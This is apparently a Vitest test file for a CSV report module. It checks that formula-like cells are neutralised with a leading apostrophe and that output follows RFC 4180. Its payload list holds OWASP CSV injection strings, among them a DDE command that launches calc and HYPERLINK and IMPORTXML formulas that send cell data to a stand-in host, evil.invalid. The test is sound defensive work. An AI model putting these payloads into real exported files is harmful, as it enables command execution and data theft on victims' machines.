import { describe, expect, it } from "vitest"
import { neutralizeCell, renderCsv } from "../../src/report/Csv.ts"

// OWASP CSV injection payloads
const PAYLOADS = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-2+3",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "=HYPERLINK(\"http://evil.invalid?x=\"&A1,\"click\")",
  "=IMPORTXML(CONCAT(\"http://evil.invalid/?v=\", A1), \"//a\")"
]

describe("CSV cells", () => {
  it("neutralizes every OWASP payload so no spreadsheet runs it", () => {
    for (const payload of PAYLOADS) {
      const safe = neutralizeCell(payload)
      expect(safe.startsWith("'"), payload).toBe(true)
      expect(safe.slice(1)).toBe(payload)
    }
  })

  it("leaves ordinary text alone, Greek and Cyrillic included", () => {
    for (const text of ["Πούτιν", "Путин", "Kim Jong-un", "2023-09", "a-b"]) expect(neutralizeCell(text)).toBe(text)
  })

  it("writes RFC 4180 with a byte-order mark and CRLF, quoting what needs it", () => {
    const csv = renderCsv(["a", "b"], [["=1+1", "say \"hi\", then\nleave"], ["Πούτιν", null]])
    expect(csv).toBe("\uFEFFa,b\r\n'=1+1,\"say \"\"hi\"\", then\nleave\"\r\nΠούτιν,\r\n")
  })
})
